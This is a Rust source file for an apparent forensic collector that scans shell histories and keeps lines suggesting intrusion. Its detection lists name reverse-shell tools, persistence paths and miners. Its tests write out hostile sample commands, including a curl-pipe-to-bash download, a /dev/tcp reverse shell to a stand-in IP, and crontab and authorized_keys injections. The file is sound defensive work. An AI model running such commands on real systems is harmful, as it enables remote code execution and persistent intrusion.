//! What shells' histories say of an intrusion. Histories are private: a line is kept only where it fetches and
//! runs, mines, digs itself in, or gives a shell away; all others are read and forgotten.

use super::accounts::homes;
use super::persistence::decoded;
use super::{Collector, Host, Outcome, Run};
use crate::evidence::{FileKind, HostPath, Reason};
use crate::facts::{Facts, HostText, Status, Table, Time};
use std::io::{Read, SeekFrom};

crate::table! {
    pub struct HistoryLine in shell_history, "Lines of shells' histories that fetch and run something, mine, write to what starts by itself, decode what they run, or give a shell away. Other lines are not kept.";
    path: HostPath, "", "The history.";
    line: Option<u32>, "", "Its line, from 1; NULL in a file of which only the end was read.";
    user: HostText, "", "Whose home it lies in.";
    text: HostText, "", "The line, at most 1 KiB of it.";
    decoded: Option<HostText>, "", "The same with its base64 parts decoded; NULL where it has none.";
    time: Option<Time>, "", "When it was entered, where the shell keeps that.";
    mtime: Option<Time>, "", "History last written.";
}

pub(super) const COLLECTOR: Collector =
    Collector { name: "histories", tables: &[HistoryLine::DEF], run: Run::Host(collect) };

const NAMES: [&str; 8] = [
    ".bash_history",
    ".zsh_history",
    ".zhistory",
    ".ash_history",
    ".sh_history",
    ".ksh_history",
    ".history",
    ".local/share/fish/fish_history",
];
/// Of a longer history the end is read.
const MOST_BYTES: u64 = 1 << 20;
/// Lines that are kept of one, and bytes of each.
const MOST_LINES: usize = 200;
const MOST_TEXT: usize = 1 << 10;

/// One command of a history.
struct Command<'a> {
    line: u32,
    text: &'a [u8],
    seconds: Option<i64>,
}

fn collect(host: &Host<'_>, facts: &Facts) -> Outcome {
    let mut all = homes(host, "shell_history");
    let root = HostPath::from("/root");
    if all.iter().all(|(_, home)| *home != root) {
        all.push((HostText::from("root"), root));
    }
    let (mut read, mut kept, mut unread) = (0_u64, 0_u64, None);
    for (user, home) in &all {
        for name in NAMES {
            let path = home.join(name);
            let stat = match host.root.stat(&path) {
                Ok(stat) if stat.kind == FileKind::File => stat,
                Ok(_) => continue,
                Err(why) => {
                    if !matches!(why.reason, Reason::Absent | Reason::Vanished) {
                        unread.get_or_insert(why);
                    }
                    continue;
                }
            };
            let bytes = match end(host, &path) {
                Ok(bytes) => bytes,
                Err(why) => {
                    unread.get_or_insert(why);
                    continue;
                }
            };
            read += 1;
            let whole = stat.size <= MOST_BYTES;
            let found: Vec<Command<'_>> =
                commands(&bytes).into_iter().filter(|command| says(command.text)).collect();
            let first = found.len().saturating_sub(MOST_LINES);
            for command in found.iter().skip(first) {
                let text = command.text.get(..MOST_TEXT).unwrap_or(command.text);
                let row = HistoryLine {
                    path: path.clone(),
                    line: whole.then_some(command.line),
                    user: user.clone(),
                    text: HostText::from(text),
                    decoded: decoded(text).map(HostText),
                    time: command
                        .seconds
                        .map(|seconds| Time(seconds.saturating_mul(1_000_000_000))),
                    mtime: stat.mtime,
                };
                let at = format!("{path}:{}", command.line);
                facts.insert(at.clone(), &at, &row)?;
                kept += 1;
            }
        }
    }
    let mut detail = format!("{read} histories read, {kept} of their lines kept");
    if let Some(why) = &unread {
        detail += &format!("; not all could be read, as {why}");
    }
    let status = match (&unread, read) {
        (None, 0) => Status::Absent,
        (None, _) => Status::Complete,
        (Some(_), 0) => Status::NotCaptured,
        (Some(_), _) => Status::Partial,
    };
    facts.cover("shell_history", status, detail)
}

/// The last bytes of a history.
fn end(host: &Host<'_>, path: &HostPath) -> Result<Vec<u8>, crate::evidence::Unavailable> {
    let failed = |e: &std::io::Error| crate::evidence::Unavailable::from_io(path, e);
    let mut file = host.root.open(path)?;
    let size = file.seek(SeekFrom::End(0)).map_err(|e| failed(&e))?;
    file.seek(SeekFrom::Start(size.saturating_sub(MOST_BYTES))).map_err(|e| failed(&e))?;
    let mut bytes = Vec::new();
    file.take(MOST_BYTES).read_to_end(&mut bytes).map_err(|e| failed(&e))?;
    Ok(bytes)
}

/// Commands with their times: bash's `#1700000000` on the line before, zsh's `: 1700000000:0;` before the
/// command, fish's `- cmd: ` and `when: ` after it.
fn commands(bytes: &[u8]) -> Vec<Command<'_>> {
    let mut all: Vec<Command<'_>> = Vec::new();
    let mut before = None;
    for (line, number) in bytes.split(|b| *b == b'\n').zip(1_u32..) {
        if let Some(when) = line.strip_prefix(b"#").and_then(seconds) {
            before = Some(when);
        } else if let Some(when) = line.trim_ascii_start().strip_prefix(b"when: ").and_then(seconds)
        {
            if let Some(last) = all.last_mut() {
                last.seconds = Some(when);
            }
        } else if let Some(rest) = line.strip_prefix(b": ")
            && let Some(at) = memchr::memchr(b';', rest)
            && let Some((head, text)) = rest.split_at_checked(at)
            && let Some(when) = head.split(|b| *b == b':').next().and_then(seconds)
        {
            all.push(Command {
                line: number,
                text: text.get(1..).unwrap_or_default(),
                seconds: Some(when),
            });
        } else {
            let text = line.strip_prefix(b"- cmd: ").unwrap_or(line).trim_ascii();
            all.push(Command { line: number, text, seconds: before.take() });
        }
    }
    all
}

fn seconds(digits: &[u8]) -> Option<i64> {
    let text = std::str::from_utf8(digits).ok()?;
    (9..=11).contains(&text.len()).then(|| text.parse().ok()).flatten()
}

/// Whether a line is one of those that are kept.
fn says(text: &[u8]) -> bool {
    let lower = text.to_ascii_lowercase();
    let has = |word: &str| memchr::memmem::find(&lower, word.as_bytes()).is_some();
    let any = |words: &[&str]| words.iter().any(|word| has(word));
    let fetches =
        any(&["curl ", "wget ", "tftp ", "ftpget ", "lwp-", "aria2c ", "/dev/tcp/", "/dev/udp/"]);
    let runs = any(&["|", "chmod ", "./", "<(", "$(", "`", "sh ", "python", "perl "]);
    let bare = ["://", "tftp "].iter().any(|word| {
        memchr::memmem::find(&lower, word.as_bytes())
            .and_then(|at| lower.get(at + word.len()))
            .is_some_and(u8::is_ascii_digit)
    });
    let starts = any(&[
        "crontab",
        "/etc/cron",
        "/var/spool/cron",
        "authorized_keys",
        "ld.so.preload",
        "rc.local",
        "/etc/systemd/system/",
        "/etc/profile",
        ".bashrc",
        ".profile",
    ]);
    let writes = any(&[">", "tee ", "crontab -", "crontab /"]) && !has("crontab -l")
        || any(&["| crontab", "|crontab"]);
    // A pool by its port, and who is paid.
    let told = has(" -o ") && has(" -u ") || has("--url") && has("--user");
    let pays = told
        && lower
            .windows(2)
            .any(|pair| pair.first() == Some(&b':') && pair.last().is_some_and(u8::is_ascii_digit));
    fetches && (runs || bare)
        || pays
        || starts && writes
        || any(&[
            "stratum",
            "xmrig",
            "--donate-level",
            "minerd ",
            "randomx",
            "--coin",
            "cpuminer",
            "xmr-stak",
        ])
        || any(&["base64 -d", "base64 --decode", "b64decode", "memfd"]) && runs
        || any(&[
            "nc -e",
            "ncat -e",
            "nc -c",
            "--exec",
            "mkfifo ",
            "exec:",
            "pty.spawn",
            "socket.socket",
            "fsockopen",
        ]) && any(&["sh", "socket"])
}

#[cfg(test)]
mod tests {
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn what_is_kept_and_what_is_not() {
        for line in [
            "curl -fsSL http://198.51.100.23/i.sh | bash",
            "wget http://198.51.100.23/kw",
            "./a --donate-level 1 -o pool.example:3333",
            "echo '* * * * * /tmp/x' | crontab -",
            "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys",
            "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
        ] {
            assert!(says(line.as_bytes()), "{line}");
        }
        for line in [
            "ls -la",
            "vim ~/.bashrc",
            "mysql -u root -pSecret",
            "crontab -l",
            "wget https://example.org/a.tar.gz",
            "export TOKEN=abc",
            "cat /etc/crontab",
        ] {
            assert!(!says(line.as_bytes()), "{line}");
        }
    }

    #[test]
    fn times_of_three_shells() {
        let all = commands(
            b"#1700000000\nls\n: 1700000001:0;id; w\n- cmd: ps\n  when: 1700000002\nlast\n",
        );
        let shown: Vec<(u32, &[u8], Option<i64>)> =
            all.iter().map(|c| (c.line, c.text, c.seconds)).collect();
        assert_eq!(shown[0], (2, &b"ls"[..], Some(1_700_000_000)));
        assert_eq!(shown[1], (3, &b"id; w"[..], Some(1_700_000_001)));
        assert_eq!(shown[2], (4, &b"ps"[..], Some(1_700_000_002)));
        assert_eq!(shown[3], (6, &b"last"[..], None));
    }

    proptest! {
        #[test]
        fn any_bytes(bytes: Vec<u8>) {
            for command in commands(&bytes) {
                let _ = says(command.text);
            }
        }
    }
}
